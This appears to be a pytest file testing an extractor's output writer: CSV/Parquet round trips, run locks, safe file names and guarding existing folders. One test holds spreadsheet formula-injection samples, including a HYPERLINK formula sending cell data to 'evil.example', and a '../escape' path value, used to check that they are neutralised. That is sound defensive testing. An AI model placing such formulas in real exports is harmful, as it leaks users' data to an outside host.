import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from extractor.outputs import (OutputError, RunWriter, csv_to_parquet, neutralise, read_table,
                               unneutralise, write_table)


def test_tables_round_trip_through_csv_and_parquet(tmp_path):
    df = pd.DataFrame({"doc_id": ["a.txt", "b/c.txt"], "value": [28.3, 300000.0],
                       "unit": ["min", ""], "lossy": [True, False], "start": [3, 10],
                       "sentence": ['He said "1,750", then left', "line\nbreak"]})
    write_table(df, tmp_path / "t.csv")
    back = read_table(tmp_path / "t.csv")
    assert back["value"].tolist() == [28.3, 300000.0]
    assert back["unit"].tolist() == ["min", ""]
    assert back["lossy"].tolist() == [True, False]
    assert back["sentence"].tolist() == df["sentence"].tolist()
    assert (tmp_path / "t.csv").read_text().splitlines()[2].startswith("b/c.txt,300000,,false,10")
    csv_to_parquet(tmp_path / "t.csv", tmp_path / "t.parquet")
    table = pq.read_table(tmp_path / "t.parquet")
    assert str(table.schema.field("value").type) == "double"
    assert str(table.schema.field("lossy").type) == "bool"
    assert table.column("unit").to_pylist() == ["min", ""]


def test_parquet_of_a_header_only_table(tmp_path):
    (tmp_path / "t.csv").write_text("group_id,system,n_docs\n")
    csv_to_parquet(tmp_path / "t.csv", tmp_path / "t.parquet")
    assert pq.read_table(tmp_path / "t.parquet").num_rows == 0


def test_a_failed_run_leaves_the_previous_outputs_untouched(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "claims.csv").write_text("previous run\n")
    with pytest.raises(RuntimeError):
        with RunWriter(out) as writer:
            writer.add({"doc_id": "a.txt", "status": "ok"}, [{"doc_id": "a.txt", "value": 1}],
                       "text")
            raise RuntimeError("crash in the middle of a run")
    assert (out / "claims.csv").read_text() == "previous run\n"
    assert sorted(p.name for p in out.iterdir()) == ["claims.csv"]
    assert not list(tmp_path.glob(".out.partial-*"))  # no staging folder left


def test_an_unwritable_output_folder_is_an_output_error(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    with pytest.raises(OutputError, match="cannot write"):
        RunWriter(blocker / "out")


def test_formula_cells_are_neutralised_in_csv_and_raw_in_parquet(tmp_path):
    raw = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1)", "+1+1", "-x", "@SUM(A1)", "\tcmd",
           "-20", "-20%", "'=already quoted", "plain"]
    df = pd.DataFrame({"sentence": raw, "value": [-20.0] * len(raw)})
    write_table(df, tmp_path / "t.csv")
    cells = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)
    assert cells["sentence"].tolist() == [
        "'=HYPERLINK(\"http://evil.example/?leak=\"&A1)", "'+1+1", "'-x", "'@SUM(A1)", "'\tcmd",
        "-20", "-20%", "''=already quoted", "plain"]
    assert cells["value"].tolist() == ["-20"] * len(raw)
    assert read_table(tmp_path / "t.csv")["sentence"].tolist() == raw
    csv_to_parquet(tmp_path / "t.csv", tmp_path / "t.parquet")
    assert pq.read_table(tmp_path / "t.parquet").column("sentence").to_pylist() == raw


@given(st.text(max_size=30))
def test_neutralised_cells_never_start_a_formula_and_read_back_raw(text):
    cell = neutralise(text)
    assert unneutralise(cell) == text
    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
        float(cell.rstrip("%").replace(",", ""))  # only a plain number may


def test_a_doc_id_that_cannot_be_a_file_name_gets_a_safe_unique_one(tmp_path):
    long_id = "n" * 300 + ".txt"
    with RunWriter(tmp_path / "out", columns={"documents": ["doc_id", "clean_path"]}) as writer:
        for doc_id in ("x", "x.txt/a.txt", long_id, "../escape"):
            writer.add({"doc_id": doc_id}, [], f"text of {doc_id}")
        writer.ensure_tables()
        writer.close_streams()
        docs = read_table(writer.partial_path("documents.csv")).set_index("doc_id")["clean_path"]
        assert docs["x"] == "clean/x.txt"
        for doc_id in ("x.txt/a.txt", long_id, "../escape"):
            assert docs[doc_id].startswith("clean/_renamed/"), doc_id
        for doc_id, path in docs.items():
            assert (writer.partial / path).read_text(encoding="utf-8") == f"text of {doc_id}"
        assert docs.is_unique


def test_a_second_writer_on_the_same_folder_is_refused(tmp_path):
    with RunWriter(tmp_path / "out"):
        with pytest.raises(OutputError, match="another run .* is writing to"):
            RunWriter(tmp_path / "out")


def test_a_folder_holding_other_folders_is_not_replaced(tmp_path):
    (tmp_path / "home" / "thesis").mkdir(parents=True)
    (tmp_path / "home" / "thesis" / "main.tex").write_text("years of work")
    with pytest.raises(OutputError, match="holds folders a run did not write"):
        RunWriter(tmp_path / "home")
    assert (tmp_path / "home" / "thesis" / "main.tex").read_text() == "years of work"


def test_plain_files_of_the_output_folder_are_carried_over(tmp_path):
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "README.md").write_text("# outputs/")
    with RunWriter(tmp_path / "out") as writer:
        writer.add({"doc_id": "a.txt"}, [], "text")
        writer.ensure_tables()
        writer.finish(pd.DataFrame({"doc_id": []}), pd.DataFrame({"group_id": []}))
    assert (tmp_path / "out" / "README.md").read_text() == "# outputs/"
    assert (tmp_path / "out" / "clean" / "a.txt.txt").read_text() == "text"


def test_parquet_in_small_blocks_holds_the_whole_table(tmp_path, monkeypatch):
    """The conversion reads little at a time (bounded memory): the table is the same
    whatever the block size, in row groups of about PARQUET_ROW_GROUP_ROWS."""
    import extractor.table_files as table_files

    df = pd.DataFrame({"doc_id": [f"p{i}.txt" for i in range(3000)],
                       "value": [i / 7 for i in range(3000)],
                       "sentence": [f"'=line {i}\nwith a break" for i in range(3000)]})
    write_table(df, tmp_path / "t.csv")
    csv_to_parquet(tmp_path / "t.csv", tmp_path / "whole.parquet")
    monkeypatch.setattr(table_files, "PARQUET_BLOCK_BYTES", 4096)
    monkeypatch.setattr(table_files, "PARQUET_ROW_GROUP_ROWS", 1000)
    csv_to_parquet(tmp_path / "t.csv", tmp_path / "small.parquet")
    small = pq.ParquetFile(tmp_path / "small.parquet")
    assert small.metadata.num_row_groups >= 3
    assert small.read().equals(pq.read_table(tmp_path / "whole.parquet"))
    assert small.read().column("sentence")[0].as_py() == "'=line 0\nwith a break"


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r0123456789.,%eE a")), max_size=8)
       | st.text())
def test_a_text_cell_is_neutralised_as_the_full_rule_says(text):
    """format_cell's fast path for text (no formula character first) changes nothing."""
    from extractor.table_files import format_cell, neutralise

    assert format_cell(text) == neutralise(text)


def test_a_row_longer_than_two_parquet_blocks_converts(tmp_path):
    """Issue 25 item 2: a group spread over many pages has a doc_ids cell that grows with
    the page count; a row over two blocks (512 KB) made Arrow's streaming reader raise
    'straddling object' and the run wrote nothing."""
    doc_ids = ";".join(f"{'deep/' * 30}page_{i:05d}.txt" for i in range(5000))
    assert len(doc_ids) > 2 * (1 << 18)
    df = pd.DataFrame({"group_id": ["g1", "g2", "g3"], "n_docs": [5000, 1, 2],
                       "doc_ids": [doc_ids, "a.txt", "line\nbreak"]})
    write_table(df, tmp_path / "t.csv")
    csv_to_parquet(tmp_path / "t.csv", tmp_path / "t.parquet")
    table = pq.read_table(tmp_path / "t.parquet")
    assert table.column("doc_ids").to_pylist() == [doc_ids, "a.txt", "line\nbreak"]
    assert table.column("n_docs").to_pylist() == [5000, 1, 2]


# ---- where the outputs go: near the corpus, inside other outputs (issue 25 item 7) ----------

def small_corpus(folder):
    (folder / "news").mkdir(parents=True)
    (folder / "news" / "a.txt").write_text("The IPU-POD16 trained ResNet-50 in 28.3 minutes.\n")
    return folder


def test_the_corpus_itself_or_a_folder_holding_it_is_refused_as_out(tmp_path):
    from extractor.config import Config
    from extractor.pipeline import run

    corpus = tmp_path / "pages"
    corpus.mkdir()
    (corpus / "a.txt").write_text("The IPU-POD16 trained ResNet-50 in 28.3 minutes.\n")
    with pytest.raises(OutputError, match="is the corpus"):  # the next run would read
        run(Config(corpus=corpus, out=corpus))                # report.html as a page
    with pytest.raises(OutputError, match="holding the corpus"):
        run(Config(corpus=corpus, out=tmp_path))
    assert sorted(p.name for p in corpus.iterdir()) == ["a.txt"]


def test_a_corpus_folder_holding_pages_is_refused_as_out(tmp_path):
    from extractor.config import Config
    from extractor.pipeline import run

    corpus = small_corpus(tmp_path / "corpus")
    with pytest.raises(OutputError, match="news/a.txt|a.txt"):
        run(Config(corpus=corpus, out=corpus / "news"))
    assert (corpus / "news" / "a.txt").is_file()
    run(Config(corpus=corpus, out=corpus / "outputs"))  # a new folder inside: fine
    assert (corpus / "outputs" / "claims.csv").is_file()


def test_an_out_inside_another_runs_output_folder_is_refused(tmp_path):
    from extractor.config import Config
    from extractor.pipeline import run
    from extractor.runfolder import RunLock

    corpus = small_corpus(tmp_path / "corpus")
    lock = RunLock(tmp_path / "x")  # a run writing --out x, not committed yet
    lock.acquire()
    try:
        with pytest.raises(OutputError, match="inside the output folder"):
            run(Config(corpus=corpus, out=tmp_path / "x" / "sub"))
    finally:
        lock.release()
    run(Config(corpus=corpus, out=tmp_path / "x"))
    with pytest.raises(OutputError, match="inside the output folder"):  # x is committed
        run(Config(corpus=corpus, out=tmp_path / "x" / "sub"))


def test_outputs_that_appeared_inside_out_during_the_run_are_not_deleted(tmp_path):
    out = tmp_path / "x"
    with pytest.raises(OutputError, match="now holds folders"):
        with RunWriter(out) as writer:
            writer.add({"doc_id": "a.txt", "status": "ok"}, [], "text")
            (out / "sub").mkdir(parents=True)  # another run's outputs, written meanwhile
            (out / "sub" / "claims.csv").write_text("theirs\n")
            writer.finish(pd.DataFrame({"doc_id": []}), pd.DataFrame({"group_id": []}))
    assert (out / "sub" / "claims.csv").read_text() == "theirs\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x"]


def test_no_lock_file_is_left_beside_the_output_folder(tmp_path):
    from extractor.runfolder import RunLock

    with RunWriter(tmp_path / "out") as writer:
        writer.add({"doc_id": "a.txt", "status": "ok"}, [], "text")
        writer.finish(pd.DataFrame({"doc_id": []}), pd.DataFrame({"group_id": []}))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]
    first, second = RunLock(tmp_path / "out"), RunLock(tmp_path / "out")
    first.acquire()
    with pytest.raises(Exception, match="another run"):
        second.acquire()
    first.release()
    second.acquire()  # the file was removed and made again: still one run at a time
    second.release()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]
